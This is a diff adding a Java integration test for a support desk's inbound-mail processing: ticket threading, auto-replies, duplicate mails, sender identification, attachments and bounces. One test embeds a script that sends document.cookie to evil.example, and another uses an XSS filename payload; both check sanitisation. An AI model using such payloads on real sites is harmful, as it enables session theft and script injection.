@@ -1,0 +1,423 @@
+package fr.orthocab.support.mail.inbound;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import fr.orthocab.support.account.Accounts;
+import fr.orthocab.support.account.Role;
+import fr.orthocab.support.customer.Customer;
+import fr.orthocab.support.customer.Language;
+import fr.orthocab.support.mail.inbound.InboundMails.Receipt;
+import fr.orthocab.support.outbox.Outbox;
+import fr.orthocab.support.outbox.OutboxMessage;
+import fr.orthocab.support.outbox.OutboxTopic;
+import fr.orthocab.support.outbox.Recipient;
+import fr.orthocab.support.sla.SlaClock;
+import fr.orthocab.support.sla.SlaClocks;
+import fr.orthocab.support.subscription.Pack;
+import fr.orthocab.support.testing.AsSupervisor;
+import fr.orthocab.support.testing.Concurrently;
+import fr.orthocab.support.testing.Deployments;
+import fr.orthocab.support.testing.OpenedTickets;
+import fr.orthocab.support.testing.TestCustomers;
+import fr.orthocab.support.ticket.AuthorKind;
+import fr.orthocab.support.ticket.Message;
+import fr.orthocab.support.ticket.Ticket;
+import fr.orthocab.support.ticket.TicketChannel;
+import fr.orthocab.support.ticket.TicketStatus;
+import fr.orthocab.support.ticket.Tickets;
+import jakarta.annotation.Resource;
+import jakarta.enterprise.concurrent.ManagedExecutorService;
+import jakarta.inject.Inject;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.time.LocalDate;
+import java.util.Base64;
+import java.util.List;
+import java.util.UUID;
+import org.jboss.arquillian.container.test.api.Deployment;
+import org.jboss.arquillian.junit5.ArquillianExtension;
+import org.jboss.shrinkwrap.api.spec.WebArchive;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+
+/**
+ * Mails as the mailbox poll hands them over, one raw message each, on the real database: where each
+ * goes, what it changes, and what it must not.
+ */
+@ExtendWith(ArquillianExtension.class)
+class InboundMailsIT {
+  @Deployment
+  static WebArchive deployment() {
+    return Deployments.builtWar();
+  }
+
+  @Inject private InboundMails inboundMails;
+  @Inject private MailAttachments attachments;
+  @Inject private Tickets tickets;
+  @Inject private Outbox outbox;
+  @Inject private SlaClocks clocks;
+  @Inject private Accounts accounts;
+  @Inject private TestCustomers customers;
+  @Inject private AsSupervisor asSupervisor;
+  @Resource private ManagedExecutorService executor;
+
+  private final String unique = UUID.randomUUID().toString().substring(0, 8);
+  private final OpenedTickets opened = new OpenedTickets();
+  private int mails;
+
+  @AfterEach
+  void closeWhatWasOpened() {
+    opened.closeAll(tickets);
+  }
+
+  @Test
+  void aMailFromACustomerIsANewRequestOnTheEmailChannel() throws Exception {
+    Customer claire = customer();
+    Receipt receipt =
+        receive(mail(claire.getEmail(), "Lien de visio absent", null, "Bonjour,\nle lien manque."));
+
+    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
+    assertFalse(receipt.automaticAnswersWithheld(), "a person's request is acknowledged");
+    Ticket ticket = ticket(receipt);
+    assertEquals(TicketChannel.EMAIL, ticket.getChannel());
+    assertEquals(claire.getId(), ticket.getCustomer().getId());
+    assertEquals(TicketStatus.OPEN, ticket.getStatus());
+    assertTrue(ticket.getReference().startsWith("OC-"));
+    assertEquals("Bonjour,\nle lien manque.", tickets.request(ticket.getId()).getBody());
+    OutboxMessage acknowledgement =
+        asSupervisor.call(() -> outbox.about(ticket.getId())).stream()
+            .filter(m -> m.getTopic() == OutboxTopic.ACKNOWLEDGEMENT)
+            .findFirst()
+            .orElseThrow();
+    assertEquals(
+        receipt.messageId(),
+        acknowledgement.getInReplyTo(),
+        "the acknowledgement answers the customer's mail, in their mail program's thread");
+  }
+
+  @Test
+  void aReplyToOneOfTheDesksMailsThreadsAndRestartsTheClock() {
+    Customer claire = customer();
+    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Rappels", null, "Pas de rappel.")));
+    answeredByAnAgent(ticket);
+    String ours = deskMailAbout(ticket, claire);
+    SlaClock before = clocks.of(ticket.getId()).orElseThrow();
+    assertFalse(before.isRunning());
+
+    Receipt reply =
+        receive(
+            mail(
+                claire.getEmail(),
+                "Re: votre demande",
+                ours,
+                "Toujours rien.\n\nLe jeu. 26 nov. 2026 à 10:02, Orthocab <support@orthocab.fr> a"
+                    + " écrit :\n> Pouvez-vous préciser ?"));
+
+    assertEquals(InboundOutcome.FOLLOW_UP, reply.outcome());
+    assertEquals(ticket.getId(), reply.ticketId());
+    List<Message> thread = tickets.fullThread(ticket.getId());
+    Message last = thread.get(thread.size() - 1);
+    assertEquals(AuthorKind.CUSTOMER, last.getAuthorKind());
+    assertEquals("Toujours rien.", last.getBody(), "the quoted history is trimmed");
+    SlaClock after = clocks.of(ticket.getId()).orElseThrow();
+    assertTrue(after.isRunning(), "the customer's message waits for a reply");
+    assertTrue(after.getCycle() > before.getCycle());
+    assertNotNull(tickets.find(ticket.getId()).orElseThrow().getAwaitingReplySince());
+  }
+
+  @Test
+  void aReplyWithoutThreadHeadersButWithTheReferenceInItsSubjectThreads() {
+    Customer claire = customer();
+    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Agenda", null, "L'agenda plante.")));
+
+    Receipt reply =
+        receive(
+            mail(
+                claire.getEmail().toUpperCase(),
+                "TR: [" + ticket.getReference() + "] Agenda",
+                null,
+                "Capture jointe."));
+
+    assertEquals(InboundOutcome.FOLLOW_UP, reply.outcome());
+    assertEquals(ticket.getId(), reply.ticketId());
+    assertEquals(2, customerMessages(ticket));
+  }
+
+  @Test
+  void anotherSendersMailNamingATicketNeverReachesIt() {
+    Customer claire = customer();
+    Customer intruder = customer();
+    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Facture", null, "Question.")));
+    String ours = deskMailAbout(ticket, claire);
+
+    Receipt foreign =
+        receive(
+            mail(
+                intruder.getEmail(),
+                "Re: [" + ticket.getReference() + "] Facture",
+                ours,
+                "Je m'invite dans ce fil."));
+
+    assertEquals(InboundOutcome.FOREIGN_REFERENCE, foreign.outcome());
+    assertNotEquals(ticket.getId(), foreign.ticketId());
+    Ticket theirs = ticket(foreign);
+    assertEquals(intruder.getId(), theirs.getCustomer().getId());
+    assertEquals(1, customerMessages(ticket), "nothing reached the named ticket");
+  }
+
+  @Test
+  void anOutOfOfficeIsRecordedWithoutAnswerNorCustomerMessage() {
+    Customer claire = customer();
+    Ticket ticket = ticket(receive(mail(claire.getEmail(), "Export", null, "Export vide.")));
+    answeredByAnAgent(ticket);
+    String ours = deskMailAbout(ticket, claire);
+
+    Receipt away =
+        receive(
+            mail(
+                claire.getEmail(),
+                "Réponse automatique : Re: Export",
+                ours,
+                "Je suis absente jusqu'au 3 décembre.",
+                "Auto-Submitted: auto-replied"));
+
+    assertEquals(InboundOutcome.AUTO_REPLY, away.outcome());
+    assertTrue(away.automaticAnswersWithheld(), "no automatic answer to an automatic answer");
+    assertEquals(ticket.getId(), away.ticketId(), "shown in the ticket's mail thread");
+    assertEquals(1, customerMessages(ticket));
+    assertFalse(clocks.of(ticket.getId()).orElseThrow().isRunning(), "no clock restarted");
+  }
+
+  @Test
+  void theSameMailReceivedTwiceOrByTwoNodesAtOnceMakesOneTicket() throws Exception {
+    Customer claire = customer();
+    byte[] raw = mail(claire.getEmail(), "Doublon", null, "Une seule fois.");
+
+    List<Receipt> receipts =
+        Concurrently.run(executor, 3, () -> inboundMails.receive(raw), (Receipt) null);
+    Receipt again = inboundMails.receive(raw);
+
+    long effects =
+        receipts.stream().filter(r -> r != null && !r.duplicate() && r.outcome() != null).count();
+    assertEquals(1, effects, "claimed once: " + receipts);
+    assertTrue(again.duplicate());
+    assertNull(again.outcome());
+    List<Ticket> theirs = tickets.search(claire.getEmail(), null, 0, 10);
+    theirs.forEach(opened::add);
+    assertEquals(1, theirs.size());
+  }
+
+  @Test
+  void anUnknownSenderIsIdentifiedByTheirAnswer() {
+    Customer camille = customer();
+    String stranger = "inconnu." + unique + "@example.org";
+    byte[] first = mail(stranger, "Aide", null, "Je n'arrive pas à me connecter.");
+    Receipt request = receive(first);
+    Ticket held = ticket(request);
+    assertEquals(TicketStatus.AWAITING_IDENTIFICATION, held.getStatus());
+    String firstId = messageIdOf(first);
+
+    Receipt vague = receive(mail(stranger, "Re: Aide", firstId, "C'est moi, Camille."));
+    assertEquals(InboundOutcome.IDENTIFICATION_INCOMPLETE, vague.outcome());
+    assertEquals(
+        TicketStatus.AWAITING_IDENTIFICATION, tickets.find(held.getId()).orElseThrow().getStatus());
+
+    Receipt answer =
+        receive(
+            mail(
+                stranger,
+                "Re: [" + held.getReference() + "] Aide",
+                null,
+                "Bonjour,\nNom : "
+                    + camille.getSurname()
+                    + "\nPrénom : "
+                    + camille.getFirstName()
+                    + "\nEmail de connexion : "
+                    + camille.getEmail()
+                    + "\n\n> Nom : …\n> Prénom : …"));
+
+    assertEquals(InboundOutcome.IDENTIFIED, answer.outcome());
+    Ticket identified = tickets.find(held.getId()).orElseThrow();
+    assertEquals(camille.getId(), identified.getCustomer().getId());
+    assertEquals(TicketStatus.OPEN, identified.getStatus());
+  }
+
+  @Test
+  void anHtmlMailIsStoredAsSafeTextAndTheOriginalKept() {
+    Customer claire = customer();
+    String html =
+        "<html><head><style>body{}</style></head><body><p>Bonjour,</p>"
+            + "<script>document.location='https://evil.example/'+document.cookie</script>"
+            + "<p>le <b>lien</b> manque.</p>"
+            + "<img src=\"https://track.example/open.gif?id=42\" width=\"1\" height=\"1\">"
+            + "</body></html>";
+    Receipt receipt =
+        receive(
+            raw(
+                header(claire.getEmail(), "HTML", null)
+                    + "MIME-Version: 1.0\nContent-Type: text/html; charset=UTF-8\n\n"
+                    + html
+                    + "\n"));
+
+    String body = tickets.request(ticket(receipt).getId()).getBody();
+    assertEquals("Bonjour,\n\nle lien manque.", body);
+    assertFalse(body.contains("script") || body.contains("evil") || body.contains("track."));
+  }
+
+  @Test
+  void anOversizedAttachmentIsRefusedPolitelyAndTheMessageKept() throws Exception {
+    Customer claire = customer();
+    byte[] big = new byte[10 * 1024 * 1024 + 1];
+    byte[] png = {(byte) 0x89, 'P', 'N', 'G'};
+    String boundary = "b-" + unique;
+    String raw =
+        header(claire.getEmail(), "Captures", null)
+            + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\""
+            + boundary
+            + "\"\n\n--"
+            + boundary
+            + "\nContent-Type: text/plain; charset=UTF-8\n\nVoici les fichiers.\n--"
+            + boundary
+            + "\n"
+            + part("video/mp4", "film.mp4", big)
+            + "--"
+            + boundary
+            + "\n"
+            + part("image/png", "<img src=x onerror=alert(1)>.png", png)
+            + "--"
+            + boundary
+            + "--\n";
+
+    Receipt receipt = receive(raw(raw));
+
+    assertEquals(InboundOutcome.NEW_REQUEST, receipt.outcome());
+    Ticket ticket = ticket(receipt);
+    assertEquals("Voici les fichiers.", tickets.request(ticket.getId()).getBody());
+    List<AttachmentInfo> kept = asSupervisor.call(() -> attachments.ofTicket(ticket.getId()));
+    assertEquals(1, kept.size());
+    assertEquals("<img src=x onerror=alert(1)>.png", kept.get(0).getFileName());
+    assertEquals(4, kept.get(0).getSizeBytes());
+    Message told =
+        tickets.publicThread(ticket.getId()).stream()
+            .filter(m -> m.getAuthorKind() == AuthorKind.SYSTEM)
+            .filter(m -> m.getBody().contains("film.mp4"))
+            .findFirst()
+            .orElseThrow();
+    assertTrue(told.getBody().contains("trop volumineux"), told.getBody());
+  }
+
+  @Test
+  void mailsFromTheDesksOwnAddressOrBouncesChangeNothing() {
+    Receipt own = receive(mail("support@orthocab.fr", "Boucle", null, "Moi-même."));
+    assertEquals(InboundOutcome.OWN_ADDRESS, own.outcome());
+    assertNull(own.ticketId());
+    assertTrue(own.automaticAnswersWithheld());
+
+    Receipt bounce =
+        receive(mail("MAILER-DAEMON@mx." + unique + ".example", "Undelivered", null, "failed"));
+    assertEquals(InboundOutcome.BOUNCE, bounce.outcome());
+    assertNull(bounce.ticketId());
+    assertTrue(bounce.automaticAnswersWithheld());
+  }
+
+  private Receipt receive(byte[] raw) {
+    Receipt receipt = inboundMails.receive(raw);
+    if (receipt.ticketId() != null && !opened.contains(receipt.ticketId())) {
+      opened.add(tickets.find(receipt.ticketId()).orElseThrow());
+    }
+    return receipt;
+  }
+
+  private Ticket ticket(Receipt receipt) {
+    assertNotNull(receipt.ticketId(), "a ticket for " + receipt);
+    return tickets.find(receipt.ticketId()).orElseThrow();
+  }
+
+  private Customer customer() {
+    LocalDate today = LocalDate.now();
+    return customers.subscribed(Pack.TELESOIN, today.minusDays(10), today.plusDays(300));
+  }
+
+  private void answeredByAnAgent(Ticket ticket) {
+    long agent =
+        accounts
+            .openForStaff(
+                "agent." + unique + "." + mails++ + "@orthocab.fr",
+                "Lucie",
+                Role.AGENT,
+                "x".toCharArray())
+            .getId();
+    Ticket now = tickets.find(ticket.getId()).orElseThrow();
+    tickets.reply(ticket.getId(), now.getVersion(), agent, "Pouvez-vous préciser ?");
+  }
+
+  /** A mail the desk wrote about the ticket: its Message-ID. */
+  private String deskMailAbout(Ticket ticket, Customer customer) {
+    return outbox
+        .add(
+            new OutboxMessage(
+                OutboxTopic.SLA_OBJECTIVE_WARNING,
+                new Recipient(customer.getEmail(), null, Language.FR),
+                ticket.getId(),
+                "[" + ticket.getReference() + "] " + ticket.getSubject(),
+                "Réponse",
+                Instant.now()))
+        .getMessageId();
+  }
+
+  private long customerMessages(Ticket ticket) {
+    return tickets.fullThread(ticket.getId()).stream()
+        .filter(m -> m.getAuthorKind() == AuthorKind.CUSTOMER)
+        .count();
+  }
+
+  private byte[] mail(String from, String subject, String inReplyTo, String body, String... extra) {
+    return raw(
+        header(from, subject, inReplyTo)
+            + String.join("", List.of(extra).stream().map(h -> h + "\n").toList())
+            + "MIME-Version: 1.0\nContent-Type: text/plain; charset=UTF-8\n"
+            + "Content-Transfer-Encoding: 8bit\n\n"
+            + body
+            + "\n");
+  }
+
+  private String header(String from, String subject, String inReplyTo) {
+    String messageId = "<it-" + unique + "-" + mails++ + "@mail.example.fr>";
+    return "From: "
+        + from
+        + "\nTo: support@orthocab.fr\nSubject: "
+        + subject
+        + "\nMessage-ID: "
+        + messageId
+        + "\nDate: Thu, 26 Nov 2026 10:00:00 +0100\n"
+        + (inReplyTo == null
+            ? ""
+            : "In-Reply-To: " + inReplyTo + "\nReferences: " + inReplyTo + "\n");
+  }
+
+  private static String part(String type, String name, byte[] content) {
+    return "Content-Type: "
+        + type
+        + "\nContent-Disposition: attachment; filename=\""
+        + name
+        + "\"\nContent-Transfer-Encoding: base64\n\n"
+        + Base64.getMimeEncoder().encodeToString(content).replace("\r\n", "\n")
+        + "\n";
+  }
+
+  private static byte[] raw(String text) {
+    return text.replace("\r\n", "\n").replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
+  }
+
+  private static String messageIdOf(byte[] raw) {
+    String text = new String(raw, StandardCharsets.UTF_8);
+    int start = text.indexOf("Message-ID: ") + "Message-ID: ".length();
+    return text.substring(start, text.indexOf("\r\n", start));
+  }
+}
